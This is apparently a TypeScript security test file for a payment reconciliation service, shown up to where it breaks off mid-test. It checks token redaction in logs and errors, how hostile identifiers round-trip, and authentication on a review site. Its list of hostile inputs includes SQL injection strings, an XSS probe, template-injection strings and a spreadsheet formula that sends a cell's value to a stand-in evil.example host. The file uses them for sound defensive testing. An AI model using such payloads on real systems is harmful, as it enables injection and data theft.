/**
 * Security under faults:
 * (a) partner API tokens never appear in logs (a capturing logger and a real pino logger), errors, run
 *     reports or the run log, on the success path and on every failure path of the API reader;
 * (b) keys and references carrying SQL fragments, control characters and formulas round-trip unchanged
 *     through ledger.run -> reconciliation (CSV and API) -> discrepancy exports (formula-neutralised in CSV
 *     only);
 * (c) the review site refuses every route but the sign-in form without valid credentials;
 * (d) the review server never logs its token (nor a session id or CSRF token);
 * (e) the review site's sign-in throttle logs the lockout but never a submitted token, and answers a locked
 *     address the same whether it sends the right token or a wrong one.
 */
import { randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { inspect } from 'node:util';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import type { Pool } from 'pg';
import pino from 'pino';
import { neutraliseCell } from '../../src/discrepancies/csvCells.js';
import { writeDiscrepanciesJson } from '../../src/discrepancies/discrepanciesJson.js';
import { getDiscrepancy } from '../../src/discrepancies/getDiscrepancy.js';
import { streamDiscrepancies } from '../../src/discrepancies/streamDiscrepancies.js';
import { writeDiscrepanciesCsv } from '../../src/discrepancies/writeDiscrepanciesCsv.js';
import type { Ledger } from '../../src/ledger/ledger.js';
import {
  type FakeFault,
  type FakePartner,
  startFakePartner,
} from '../../src/partnerFake/fakePartnerServer.js';
import { reconcile } from '../../src/reconcile/reconcile.js';
import type { ReconcilerApiSource } from '../../src/reconcile/reconcilerConfig.js';
import { lookupByReference } from '../../src/reports/lookupPartnerReference.js';
import { readApiReport } from '../../src/reports/readApiReport.js';
import { createReviewServer } from '../../src/review/createReviewServer.js';
import { SESSION_COOKIE } from '../../src/review/registerAuth.js';
import type { Logger } from '../../src/shared/logger.js';
import { dbNow, minutes, place, spec, unknownIntent } from '../reconcile/support.js';
import { seedReview } from '../review/seedReview.js';
import { sqlPool } from '../support/fixtures.js';
import { useFreshDatabase } from '../support/freshDatabase.js';
import { capturingLogger, testLedger } from '../support/testLedger.js';
import {
  apiReconciler,
  captureStream,
  REPO_ROOT,
  runCli,
  trackUnhandledRejections,
  utf8Reconciler,
} from './badInputSupport.js';

/** A fresh secret per run, long and random: found anywhere means leaked, never a coincidence. */
const secret = (label: string) => `${label}_${randomBytes(24).toString('hex')}`;

function expectNoSecret(haystacks: Record<string, string>, secrets: string[]): void {
  for (const [where, text] of Object.entries(haystacks)) {
    for (const s of secrets) {
      expect(text.includes(s), `${where} contains the secret ${s.slice(0, 12)}...`).to.equal(false);
    }
  }
}

async function closedPort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const probe = createServer();
    probe.once('error', reject);
    probe.listen(0, '127.0.0.1', () => {
      const { port } = probe.address() as { port: number };
      probe.close(() => resolve(port));
    });
  });
}

describe('faults: security', function () {
  this.timeout(30_000);
  let unhandled: ReturnType<typeof trackUnhandledRejections>;
  before(() => {
    unhandled = trackUnhandledRejections();
  });
  after(() => {
    unhandled?.stop();
    expect(unhandled.seen, 'unhandled rejections').to.deep.equal([]);
  });

  describe('(a) partner API tokens never appear in logs, errors, reports or the run log', () => {
    const db = useFreshDatabase('sec_tokens');
    const TOKEN = secret('sk_live');
    const WRONG = secret('sk_wrong');
    let sql: Pool;
    let ledger: Ledger;
    let fake: FakePartner;
    let deadPort: number;
    const figures: { scenario: string; logger: string; status: string; logBytes: number }[] = [];

    before(async () => {
      sql = sqlPool(db.url);
      ledger = await testLedger(db.url, { leaseMs: 30_000 });
      fake = await startFakePartner({ token: TOKEN });
      deadPort = await closedPort();
      const now = await dbNow(sql);
      fake.seed([
        { reference: 'tok-1', amount: '10.00', currency: 'BRL', executedAt: minutes(now, -50) },
        { reference: 'tok-2', amount: '10.00', currency: 'BRL', executedAt: minutes(now, -40) },
      ]);
    });
    after(async () => {
      if (figures.length > 0) console.log(`      figures: ${JSON.stringify(figures)}`);
      await fake?.close();
      await ledger?.close();
      await sql?.end();
    });
    afterEach(() => fake.setFault(undefined));

    interface Scenario {
      name: string;
      /** What the run sends as GLOBEX_API_TOKEN. @default TOKEN */
      token?: string;
      fault?: FakeFault;
      source?: Partial<ReconcilerApiSource>;
      status: 'succeeded' | 'failed';
      error?: RegExp;
      /** The error quotes partner text that echoed the token: it must say [redacted] instead. */
      redacted?: boolean;
    }
    /** A partner that quotes back the credential it was sent (the run sends TOKEN unless told). */
    const echo = () => `invalid credentials: Authorization: Bearer ${TOKEN}`;
    const lookup: Partial<ReconcilerApiSource> = {
      mode: 'lookup',
      path: '',
      lookup: {
        path: '/v1/references/{reference}',
        itemsField: 'data',
        notFound: { field: 'error', equals: 'not_found' },
      },
    };
    const scenarios: Scenario[] = [
      { name: 'listing read, success', status: 'succeeded' },
      {
        name: 'HTTP 401: the partner refuses the token',
        token: WRONG,
        status: 'failed',
        error: /answered HTTP 401 at page 1: check the token in env GLOBEX_API_TOKEN/,
      },
      {
        name: 'HTTP 401 whose body echoes the token',
        fault: { kind: 'status', status: 401, body: JSON.stringify({ error: echo() }) },
        status: 'failed',
        error: /answered HTTP 401/,
      },
      {
        name: 'HTTP 500 on every attempt, body echoing the token',
        fault: { kind: 'status', status: 500, body: JSON.stringify({ error: echo() }) },
        status: 'failed',
        error: /answered HTTP 500 at page 1 on all 2 attempts/,
      },
      {
        name: 'HTTP 400 whose body echoes the token (quoted in the error)',
        fault: { kind: 'status', status: 400, body: JSON.stringify({ error: echo() }) },
        status: 'failed',
        error: /answered HTTP 400 at page 1, saying .*\[redacted\]/,
        redacted: true,
      },
      {
        name: 'timeout on every attempt',
        fault: { kind: 'delay', ms: 600 },
        source: { timeoutMs: 150 },
        status: 'failed',
        error: /timed out after 2 attempts at page 1/,
      },
      {
        name: 'connection reset on every attempt',
        fault: { kind: 'reset-before' },
        status: 'failed',
        error: /could not be reached \(ECONNRESET\) after 2 attempts/,
      },
      {
        name: 'connection refused (nothing listening)',
        source: { baseUrl: 'http://127.0.0.1:DEAD' },
        status: 'failed',
        error: /could not be reached \(ECONNREFUSED\)/,
      },
      {
        name: 'HTTP 200 garbage (HTML) quoting the token',
        fault: { kind: 'garbage', body: `<html><body><p>${echo()}</p></body></html>` },
        status: 'failed',
        error: /answered something that is not JSON at page 1 .*\[redacted\]/,
        redacted: true,
      },
      {
        name: 'raw token in a custom header (scheme ""), refused with 401',
        source: { auth: { header: 'X-Api-Key', env: 'GLOBEX_API_TOKEN', scheme: '' } },
        status: 'failed',
        error: /answered HTTP 401/,
      },
      { name: 'lookup mode, success', source: lookup, status: 'succeeded' },
      {
        name: 'lookup mode, HTTP 200 garbage quoting the token',
        source: lookup,
        fault: { kind: 'garbage', body: `<p>${echo()}</p>` },
        status: 'failed',
        error: /answered something that is not JSON looking up reference "tok-\d" .*\[redacted\]/,
        redacted: true,
      },
      {
        name: 'lookup mode, HTTP 404 with an HTML body quoting the token',
        source: lookup,
        fault: { kind: 'status', status: 404, body: `<p>${echo()}</p>` },
        status: 'failed',
        error: /answered HTTP 404 .* with a body that is not JSON/,
      },
    ];

    let n = 0;
    for (const scenario of scenarios) {
      for (const loggerKind of ['capturing logger', 'pino to a captured stream'] as const) {
        it(`${scenario.name} (${loggerKind})`, async () => {
          const partner = `tokens-${++n}`;
          // Two stuck intents an hour old: what lookup mode asks about, and what a listing could settle.
          const startedAt = minutes(await dbNow(sql), -60);
          for (const reference of ['tok-1', 'tok-2']) {
            await place(sql, await unknownIntent(ledger, spec(partner, reference)), { startedAt });
          }
          const source = { ...scenario.source };
          if (source.baseUrl) source.baseUrl = source.baseUrl.replace('DEAD', String(deadPort));
          const reconciler = apiReconciler(partner, fake.url, source);
          const env = { GLOBEX_API_TOKEN: scenario.token ?? TOKEN };
          if (scenario.fault) {
            const fault = scenario.fault;
            fake.setFault(() => fault);
          }

          const entries: { level: string; object: object; message: string }[] = [];
          const stream = captureStream();
          const logger: Logger =
            loggerKind === 'capturing logger'
              ? capturingLogger(entries)
              : (pino({ level: 'trace' }, stream) as unknown as Logger);
          const [report] = await reconcile({ pool: sql, reconciler, logger, env });

          expect(report.status, String(report.error)).to.equal(scenario.status);
          if (scenario.error) expect(report.error).to.match(scenario.error);
          const logged = loggerKind === 'capturing logger' ? JSON.stringify(entries) : stream.text();
          // The logger did hear the run (start, retries, pages, outcome): silence would prove nothing.
          expect(logged).to.match(/reconciliation run (started|finished)/);
          figures.push({
            scenario: scenario.name,
            logger: loggerKind,
            status: report.status,
            logBytes: logged.length,
          });

          const run = await sql.query<{ row: string }>(
            'SELECT row_to_json(r)::text AS row FROM reconciliation_runs r WHERE id = $1',
            [report.runId],
          );
          const stored = await sql.query<{ rows: string }>(
            `SELECT json_build_array(
                (SELECT json_agg(p) FROM partner_records p WHERE p.partner = $1),
                (SELECT json_agg(d) FROM discrepancies d WHERE d.partner = $1),
                (SELECT json_agg(i) FROM intents i WHERE i.partner = $1))::text AS rows`,
            [partner],
          );

          // The same read straight from the readers, to see the error objects themselves (cause included).
          let readerError: unknown = null;
          try {
            const options = { partner, timezone: 'UTC', env, logger: capturingLogger(entries) };
            const config = reconciler.source as ReconcilerApiSource;
            if (config.mode === 'lookup') await lookupByReference(config, 'tok-1', options);
            else
              for await (const _ of readApiReport(config, {
                ...options,
                window: { from: new Date(0), to: new Date() },
              })) {
                // drain
              }
          } catch (error) {
            readerError = error;
          }
          if (scenario.status === 'failed') expect(readerError).to.be.instanceOf(Error);

          const haystacks: Record<string, string> = {
            logs: logged,
            'reader logs': JSON.stringify(entries),
            'report (JSON)': JSON.stringify(report),
            'report error': String(report.error),
            'reconciliation_runs row': run.rows[0].row,
            'partner_records, discrepancies, intents': stored.rows[0].rows,
            'reader error (inspect)': inspect(readerError, { depth: null, showHidden: true }),
            'reader error (stack)': String((readerError as Error | null)?.stack),
            'reader error (JSON)': JSON.stringify(readerError),
            'reader error cause': inspect((readerError as Error | null)?.cause, { depth: null }),
          };
          expectNoSecret(haystacks, [TOKEN, WRONG]);
          if (scenario.redacted) {
            expect(report.error).to.include('[redacted]');
            expect(String((readerError as Error).message)).to.include('[redacted]');
          }
          expect(unhandled.seen).to.deep.equal([]);
        });
      }
    }

    it('the CLI (pino on stderr at LOG_LEVEL=trace) prints neither token, on success and on a garbage answer quoting it', async () => {
      const env = {
        DATABASE_URL: db.url,
        LOG_LEVEL: 'trace',
        GLOBEX_API_URL: fake.url,
        GLOBEX_API_TOKEN: TOKEN,
      };
      const args = ['reconcile', 'globex-sms', '--json', '--reconcilers', join(REPO_ROOT, 'reconcilers')];
      const ok = await runCli(args, env);
      expect(ok.code, ok.stderr).to.equal(0);
      fake.setFault(() => ({ kind: 'garbage', body: `<p>${echo()}</p>` }));
      const bad = await runCli(args, env);
      expect(bad.code, bad.stderr).to.equal(1);
      expect(JSON.parse(bad.stdout).error).to.include('[redacted]');
      expect(ok.stderr).to.match(/partner page/); // trace/debug lines were written
      expectNoSecret(
        {
          'stdout (success)': ok.stdout,
          'stderr (success)': ok.stderr,
          stdout: bad.stdout,
          stderr: bad.stderr,
        },
        [TOKEN, WRONG],
      );
    });
  });

  describe('(b) hostile keys and references round-trip: ledger -> reconciliation -> exports', () => {
    const db = useFreshDatabase('sec_hostile');
    let sql: Pool;
    let ledger: Ledger;
    let fake: FakePartner;
    let dir: string;

    /**
     * Whitespace at an edge is never part of an identifier in a partner's report (src/shared/identifierText.ts:
     * PayPal pads quoted fields), so such a reference could never be matched: the ledger refuses it.
     */
    const EDGE_WHITESPACE = [
      '  padded both sides  ',
      '\ttab-first',
      '\rcr-first',
      'line-separator-last\u2029',
      '\u00a0no-break-first',
      'newline-last\n',
      ' ',
    ];

    /** SQL fragments, control characters, formulas, markup, padding: all are data and must stay data. */
    const HOSTILE = [
      "'; DROP TABLE intents; --",
      'x" OR "1"="1',
      "Robert'); DELETE FROM discrepancies WHERE ('1'='1",
      '$1; SELECT pg_sleep(10); --',
      "E'\\x27' || chr(39) || $$dollar$$",
      '/* c */ UNION SELECT key FROM intents --',
      'line1\nline2',
      'carriage\rreturn',
      'crlf\r\nsplit',
      'tab\tinside',
      '\u001b[31mred\u001b[0m\u0007bell',
      'del\u007fchar\u0008bs',
      '\u202eexe.txt',
      'line\u2028separator\u2029inside',
      'inner  double  spaces',
      '=HYPERLINK("http://evil.example/?x="&A1,"x")',
      '+SUM(1)',
      '-1+1',
      '@cmd',
      'emoji 💸 and é ç ã',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, literally
      '%s%n%x {{7*7}} ${7*7}',
      'back\\slash\\',
      '"quoted" \'single\'',
      'semi;colon,comma',
      '<script>alert(1)</script>',
      'a/b?c=d#e%20&f=%00',
    ];

    before(async () => {
      sql = sqlPool(db.url);
      ledger = await testLedger(db.url, { leaseMs: 30_000 });
      fake = await startFakePartner();
      dir = await mkdtemp(join(tmpdir(), 'sec-hostile-'));
    });
    after(async () => {
      await fake?.close();
      await ledger?.close();
      await sql?.end();
      if (dir) await rm(dir, { recursive: true, force: true });
    });

    it('refuses a NUL in a key or reference before writing anything (PostgreSQL text cannot hold it)', async () => {
      for (const overrides of [{ key: 'nul\u0000key:charge' }, { reference: 'nul\u0000ref' }]) {
        let called = false;
        const error = await ledger
          .run({ ...spec('hostile-nul', 'nul-ok'), ...overrides }, async () => {
            called = true;
            return {};
          })
          .then(
            () => null,
            (e: unknown) => e,
          );
        expect(error).to.be.instanceOf(TypeError);
        expect((error as Error).message).to.match(/must not contain NUL/);
        expect(called).to.equal(false);
      }
      expect((await sql.query("SELECT 1 FROM intents WHERE partner = 'hostile-nul'")).rowCount).to.equal(0);
    });

    it('refuses a reference beginning or ending with whitespace before writing anything (reports are read trimmed)', async () => {
      for (const reference of EDGE_WHITESPACE) {
        let called = false;
        const error = await ledger
          .run({ ...spec('hostile-edge', 'edge-ok'), reference }, async () => {
            called = true;
            return {};
          })
          .then(
            () => null,
            (e: unknown) => e,
          );
        expect(error, JSON.stringify(reference)).to.be.instanceOf(TypeError);
        expect((error as Error).message).to.match(/must not be blank nor begin or end with whitespace/);
        expect(called).to.equal(false);
      }
      expect((await sql.query("SELECT 1 FROM intents WHERE partner = 'hostile-edge'")).rowCount).to.equal(0);
    });

    it('CSV: every hostile reference matches its own intent; keys, references, partner references and discrepancies come back unchanged; CSV export neutralises formulas, JSON does not', async () => {
      const partner = 'hostile-csv';
      const startedAt = new Date('2025-03-10T10:30:00Z');
      const ids: string[] = [];
      for (const hostile of HOSTILE) {
        const id = await unknownIntent(ledger, spec(partner, hostile, { key: `${hostile}:charge` }));
        await place(sql, id, { startedAt });
        const intent = await ledger.get(partner, `${hostile}:charge`);
        expect(intent?.key).to.equal(`${hostile}:charge`);
        expect(intent?.reference).to.equal(hostile);
        ids.push(id);
      }
      // Every intent's row says 12.34 (the intent says 10.00): one amount_mismatch per hostile reference.
      // Plus one orphan per hostile value, whose reference and NSU start with the same characters.
      const rows = [['reference', 'nsu', 'amount', 'currency', 'executed_at']];
      HOSTILE.forEach((hostile, i) => {
        const at = `2025-03-10T${String(8 + Math.floor(i / 6)).padStart(2, '0')}:${String((i % 6) * 10).padStart(2, '0')}:00`;
        rows.push([hostile, `${hostile}#nsu`, '12.34', 'BRL', at]);
        rows.push([`${hostile}#orphan`, `${hostile}#orphan-nsu`, '1.00', 'BRL', at]);
      });
      const file = join(dir, 'hostile.csv');
      writeFileSync(file, stringify(rows, { quoted: true, record_delimiter: 'unix' }));

      const [report] = await reconcile({
        pool: sql,
        reconciler: utf8Reconciler(partner),
        file,
        logger: capturingLogger(),
      });
      expect(report.status, String(report.error)).to.equal('succeeded');
      expect(report.rejected).to.deep.equal([]);
      expect(report.rowsRead).to.equal(HOSTILE.length * 2);
      expect(report.matched).to.equal(HOSTILE.length);
      expect(report.discrepancies).to.include({
        amount_mismatch: HOSTILE.length,
        orphan_partner_record: HOSTILE.length,
      });

      for (const hostile of HOSTILE) {
        const intent = await ledger.get(partner, `${hostile}:charge`);
        expect(intent, JSON.stringify(hostile)).to.include({
          key: `${hostile}:charge`,
          reference: hostile,
          status: 'completed',
          partnerReference: `${hostile}#nsu`,
        });
      }
      const recorded = await sql.query(
        'SELECT reference, partner_reference FROM partner_records WHERE partner = $1',
        [partner],
      );
      expect(recorded.rows.map((r) => [r.reference, r.partner_reference]).sort()).to.deep.equal(
        HOSTILE.flatMap((h) => [
          [h, `${h}#nsu`],
          [`${h}#orphan`, `${h}#orphan-nsu`],
        ]).sort(),
      );

      const { rows: discrepancies } = await sql.query<{
        id: string;
        kind: string;
        reference: string;
        partner_reference: string;
      }>('SELECT id, kind, reference, partner_reference FROM discrepancies WHERE partner = $1 ORDER BY id', [
        partner,
      ]);
      expect(
        discrepancies.filter((d) => d.kind === 'amount_mismatch').map((d) => d.reference),
      ).to.have.members(HOSTILE);
      expect(
        discrepancies
          .filter((d) => d.kind === 'orphan_partner_record')
          .map((d) => [d.reference, d.partner_reference]),
      ).to.have.deep.members(HOSTILE.map((h) => [`${h}#orphan`, `${h}#orphan-nsu`]));
      const detail = await getDiscrepancy(sql, discrepancies[0].id);
      expect(detail?.reference).to.equal(discrepancies[0].reference);

      // JSON export: verbatim.
      const jsonOut = new PassThrough();
      const jsonChunks: Buffer[] = [];
      jsonOut.on('data', (chunk: Buffer) => jsonChunks.push(chunk));
      await writeDiscrepanciesJson(streamDiscrepancies(sql, { partner: [partner] }), jsonOut);
      const exported = JSON.parse(Buffer.concat(jsonChunks).toString('utf8')) as Record<string, string>[];
      const byId = new Map(discrepancies.map((d) => [d.id, d]));
      expect(exported).to.have.length(discrepancies.length);
      for (const row of exported) {
        const stored = byId.get(row.id)!;
        expect([row.reference, row.partnerReference]).to.deep.equal([
          stored.reference,
          stored.partner_reference,
        ]);
      }

      // CSV export: the same values, a `'` in front of those a spreadsheet would evaluate, nothing else.
      const csvOut = new PassThrough();
      const csvChunks: Buffer[] = [];
      csvOut.on('data', (chunk: Buffer) => csvChunks.push(chunk));
      await writeDiscrepanciesCsv(streamDiscrepancies(sql, { partner: [partner] }), csvOut);
      const records = parse(Buffer.concat(csvChunks).toString('utf8'), {
        bom: true,
        columns: true,
      }) as Record<string, string>[];
      expect(records).to.have.length(discrepancies.length);
      let neutralised = 0;
      for (const record of records) {
        const stored = byId.get(record.id)!;
        expect(record.reference, JSON.stringify(stored.reference)).to.equal(neutraliseCell(stored.reference));
        expect(record.partnerReference).to.equal(neutraliseCell(stored.partner_reference));
        if (record.reference !== stored.reference) {
          neutralised += 1;
          expect(record.reference).to.equal(`'${stored.reference}`);
          expect(stored.reference).to.match(/^[=+\-@\t\r]/);
        }
      }
      // =HYPERLINK, +SUM, -1+1, @cmd: each as an amount_mismatch and as an orphan. (A tab or CR first is no
      // reference the ledger takes; test/discrepancies/spreadsheetSafety.test.ts neutralises those.)
      expect(neutralised).to.equal(8);
    });

    it('API listing and lookup: hostile references in partner JSON match their intents, inner line breaks and spaces too (lookup URL-encodes them)', async () => {
      const now = await dbNow(sql);
      fake.seed(
        HOSTILE.map((hostile, i) => ({
          id: `ch_hostile_${i}`,
          reference: hostile,
          amount: '10.00',
          currency: 'BRL',
          executedAt: minutes(now, -50 + i / 10),
        })),
      );
      for (const mode of ['listing', 'lookup'] as const) {
        const partner = `hostile-api-${mode}`;
        for (const hostile of HOSTILE) {
          const id = await unknownIntent(ledger, spec(partner, hostile, { key: `${hostile}:charge` }));
          await place(sql, id, { startedAt: minutes(now, -60) });
        }
        const source: Partial<ReconcilerApiSource> =
          mode === 'lookup'
            ? {
                mode,
                path: '',
                lookup: {
                  path: '/v1/references/{reference}',
                  itemsField: 'data',
                  notFound: { field: 'error', equals: 'not_found' },
                },
                auth: undefined,
              }
            : { auth: undefined };
        const [report] = await reconcile({
          pool: sql,
          reconciler: apiReconciler(partner, fake.url, source),
          logger: capturingLogger(),
        });
        expect(report.status, String(report.error)).to.equal('succeeded');
        expect(report.rejected, mode).to.deep.equal([]);
        const statuses = await sql.query<{ reference: string; status: string; partner_reference: string }>(
          'SELECT reference, status, partner_reference FROM intents WHERE partner = $1',
          [partner],
        );
        const byReference = new Map(statuses.rows.map((row) => [row.reference, row]));
        // References with line terminators, tabs and markup inside are echoed back exactly by the partner and
        // kept exactly by the API reader, so every one of them matches its intent in both modes.
        for (const [i, hostile] of HOSTILE.entries()) {
          const what = `${mode} ${JSON.stringify(hostile)}`;
          expect(byReference.get(hostile)?.reference, what).to.equal(hostile);
          expect(byReference.get(hostile), what).to.include({
            status: 'completed',
            partner_reference: `ch_hostile_${i}`,
          });
        }
        expect(report.resolved, mode).to.deep.equal({ completed: HOSTILE.length, notExecuted: 0 });
      }
    });
  });

  describe('(c) the review site refuses every route without valid credentials', () => {
    const db = useFreshDatabase('sec_review');
    const TOKEN = secret('review');
    let sql: Pool;
    let app: FastifyInstance;
    let shortLived: FastifyInstance;
    let discrepancyId: string;
    let seededReferences: string[];

    before(async () => {
      sql = sqlPool(db.url);
      const seeded = await seedReview(db.url, sql);
      discrepancyId = seeded.ids.duplicate;
      seededReferences = (
        await sql.query<{ reference: string }>(
          'SELECT reference FROM discrepancies WHERE reference IS NOT NULL',
        )
      ).rows.map((r) => r.reference);
      app = createReviewServer({ pool: sql, token: TOKEN });
      shortLived = createReviewServer({ pool: sql, token: TOKEN, sessionTtlMs: 150 });
      await app.ready();
      await shortLived.ready();
    });
    after(async () => {
      await app?.close();
      await shortLived?.close();
      await sql?.end();
    });

    /** Every route as fastify has it, from its own route tree: a route added later is checked too. */
    function routesOf(server: FastifyInstance): { method: string; url: string }[] {
      const routes: { method: string; url: string }[] = [];
      const stack: string[] = [];
      for (const line of server.printRoutes({ commonPrefix: false }).split('\n')) {
        const match = /^([│ ]*)(?:├── |└── )(\S+)(?: \(([^)]+)\))?$/.exec(line);
        if (!match) continue;
        const depth = match[1].length / 4;
        stack.length = depth;
        stack.push(match[2]);
        if (match[3]) for (const method of match[3].split(', ')) routes.push({ method, url: stack.join('') });
      }
      return routes;
    }

    const PUBLIC = new Set([
      'GET /login',
      'HEAD /login',
      'POST /login',
      'GET /favicon.ico',
      'HEAD /favicon.ico',
    ]);

    async function signIn(server: FastifyInstance): Promise<string> {
      const response = await server.inject({
        method: 'POST',
        url: '/login',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams({ token: TOKEN, next: '/' }).toString(),
      });
      expect(response.statusCode).to.equal(303);
      const cookie = String(response.headers['set-cookie']).split(';')[0];
      expect(cookie).to.match(new RegExp(`^${SESSION_COOKIE}=.+`));
      return cookie;
    }

    function request(route: { method: string; url: string }, headers: Record<string, string>) {
      const url = route.url.replace(':id', discrepancyId).replace(':action', 'acknowledge');
      const base = { method: route.method as 'GET', url, headers: { ...headers } };
      if (route.method !== 'POST') return base;
      if (url.startsWith('/api/')) return { ...base, payload: { by: 'mallory', note: 'pwned' } };
      return {
        ...base,
        headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams({
          action: 'acknowledge',
          ids: discrepancyId,
          by: 'mallory',
          note: 'pwned',
          _csrf: 'forged',
        }).toString(),
      };
    }

    async function stateOf(): Promise<unknown> {
      return (
        await sql.query(
          `SELECT d.id, d.status, d.assignee, (SELECT count(*) FROM discrepancy_history h WHERE h.discrepancy_id = d.id) AS history
             FROM discrepancies d ORDER BY d.id`,
        )
      ).rows;
    }

    it('enumerates the routes it checks from the server itself', () => {
      const routes = routesOf(app).map((r) => `${r.method} ${r.url}`);
      expect(routes).to.have.members([
        'GET /',
        'HEAD /',
        'GET /login',
        'HEAD /login',
        'POST /login',
        'GET /logout',
        'HEAD /logout',
        'POST /logout',
        'GET /favicon.ico',
        'HEAD /favicon.ico',
        'POST /bulk',
        'GET /discrepancies/:id',
        'HEAD /discrepancies/:id',
        'POST /discrepancies/:id/review',
        'POST /discrepancies/:id/approval',
        'GET /export.xlsx',
        'HEAD /export.xlsx',
        'GET /export.csv',
        'HEAD /export.csv',
        'GET /report',
        'HEAD /report',
        'GET /api/discrepancies',
        'HEAD /api/discrepancies',
        'GET /api/discrepancies/:id',
        'HEAD /api/discrepancies/:id',
        'POST /api/discrepancies/:id/:action',
      ]);
    });

    it('refuses every protected route: no credentials, wrong bearer, token under another scheme, forged, token-as-cookie, expired and signed-out session cookies, token in the query string', async () => {
      const expiredCookie = await signIn(shortLived);
      const signedOut = await signIn(app);
      const page = await app.inject({ method: 'GET', url: '/', headers: { cookie: signedOut } });
      const csrf = /name="_csrf" value="([^"]+)"/.exec(page.body)?.[1] ?? '';
      const logout = await app.inject({
        method: 'POST',
        url: '/logout',
        headers: { cookie: signedOut, 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams({ _csrf: csrf }).toString(),
      });
      expect(logout.statusCode).to.equal(303);
      expect(String(logout.headers['set-cookie'])).to.match(/Max-Age=0/);
      await new Promise((resolve) => setTimeout(resolve, 300));
      const forged = randomBytes(32).toString('base64url');
      const variants: {
        name: string;
        server: () => FastifyInstance;
        headers: Record<string, string>;
        query?: string;
      }[] = [
        { name: 'no credentials', server: () => app, headers: {} },
        { name: 'wrong bearer', server: () => app, headers: { authorization: `Bearer ${secret('nope')}` } },
        {
          name: 'right token, prefix of it',
          server: () => app,
          headers: { authorization: `Bearer ${TOKEN.slice(0, -1)}` },
        },
        { name: 'token under Basic', server: () => app, headers: { authorization: `Basic ${TOKEN}` } },
        { name: 'empty bearer', server: () => app, headers: { authorization: 'Bearer ' } },
        {
          name: 'forged session cookie',
          server: () => app,
          headers: { cookie: `${SESSION_COOKIE}=${forged}` },
        },
        {
          name: 'the token as session cookie',
          server: () => app,
          headers: { cookie: `${SESSION_COOKIE}=${TOKEN}` },
        },
        { name: 'expired session cookie', server: () => shortLived, headers: { cookie: expiredCookie } },
        { name: 'signed-out session cookie', server: () => app, headers: { cookie: signedOut } },
        { name: 'token in the query string', server: () => app, headers: {}, query: `token=${TOKEN}` },
      ];
      const protectedRoutes = routesOf(app).filter((r) => !PUBLIC.has(`${r.method} ${r.url}`));
      expect(protectedRoutes).to.have.length(21);
      const before = await stateOf();
      let refused = 0;
      for (const variant of variants) {
        for (const route of protectedRoutes) {
          const what = `${variant.name}: ${route.method} ${route.url}`;
          const options = request(route, variant.headers);
          if (variant.query) options.url += `${options.url.includes('?') ? '&' : '?'}${variant.query}`;
          const response: LightMyRequestResponse = await variant.server().inject(options);
          const api = route.url.startsWith('/api/');
          const page = (route.method === 'GET' || route.method === 'HEAD') && !api;
          if (page && variant.headers.authorization === undefined) {
            expect(response.statusCode, what).to.equal(303);
            expect(response.headers.location, what).to.match(/^\/login\?next=/);
          } else {
            expect(response.statusCode, what).to.equal(401);
            if (api && route.method !== 'HEAD') {
              expect(response.json().error.code, what).to.equal('UNAUTHORIZED');
            }
          }
          expect(response.headers['set-cookie'], what).to.equal(undefined);
          for (const reference of seededReferences) expect(response.body, what).not.to.include(reference);
          expect(response.body, what).not.to.include(TOKEN);
          refused += 1;
        }
      }
      expect(refused).to.equal(variants.length * 21);
      expect(await stateOf(), 'no POST changed anything').to.deep.equal(before);
    });

    it('control: the same GET routes answer with the right bearer token or a live session', async () => {
      const cookie = await signIn(app);
      for (const route of routesOf(app).filter((r) => r.method === 'GET' && !PUBLIC.has(`GET ${r.url}`))) {
        for (const headers of [{ authorization: `Bearer ${TOKEN}` }, { cookie }] as Record<
          string,
          string
        >[]) {
          const response = await app.inject(request(route, headers));
          const what = `${route.url} with ${Object.keys(headers)[0]}`;
          expect(response.statusCode, what).to.not.equal(401);
          expect(String(response.headers.location ?? ''), what).to.not.match(/^\/login/);
          if (route.url !== '/logout') expect(response.statusCode, what).to.equal(200);
        }
      }
    });
  });

  describe('(d) the review server never logs its token, session ids or CSRF tokens', () => {
    const db = useFreshDatabase('sec_review_logs');
    const TOKEN = secret('review');
    let sql: Pool;
    let app: FastifyInstance;
    const stream = captureStream();

    before(async () => {
      sql = sqlPool(db.url);
      await seedReview(db.url, sql);
      app = createReviewServer({ pool: sql, token: TOKEN, logger: pino({ level: 'trace' }, stream) });
      await app.ready();
    });
    after(async () => {
      await app?.close();
      await sql?.end();
    });

    it('signs in (wrong then right token), browses, exports, calls the API (right and wrong bearer), acts; the log holds none of the secrets', async () => {
      const form = (fields: Record<string, string>) => ({
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams(fields).toString(),
      });
      const wrong = await app.inject({
        method: 'POST',
        url: '/login',
        ...form({ token: `${TOKEN}x`, next: '/' }),
      });
      expect(wrong.statusCode).to.equal(401);
      const login = await app.inject({ method: 'POST', url: '/login', ...form({ token: TOKEN, next: '/' }) });
      expect(login.statusCode).to.equal(303);
      const cookie = String(login.headers['set-cookie']).split(';')[0];
      const sessionId = decodeURIComponent(cookie.split('=')[1]);
      const list = await app.inject({ method: 'GET', url: '/', headers: { cookie } });
      expect(list.statusCode).to.equal(200);
      const csrf = /name="_csrf" value="([^"]+)"/.exec(list.body)?.[1];
      expect(csrf).to.be.a('string');
      expect(
        (await app.inject({ method: 'GET', url: '/export.csv', headers: { cookie } })).statusCode,
      ).to.equal(200);
      const bearer = { authorization: `Bearer ${TOKEN}` };
      const api = await app.inject({ method: 'GET', url: '/api/discrepancies', headers: bearer });
      expect(api.statusCode).to.equal(200);
      const id = api.json().rows[0].id as string;
      const act = await app.inject({
        method: 'POST',
        url: `/api/discrepancies/${id}/acknowledge`,
        headers: bearer,
        payload: { by: 'security test', note: 'checked' },
      });
      expect(act.statusCode).to.equal(200);
      const badBearer = await app.inject({
        method: 'GET',
        url: '/api/discrepancies',
        headers: { authorization: `Bearer ${TOKEN}x` },
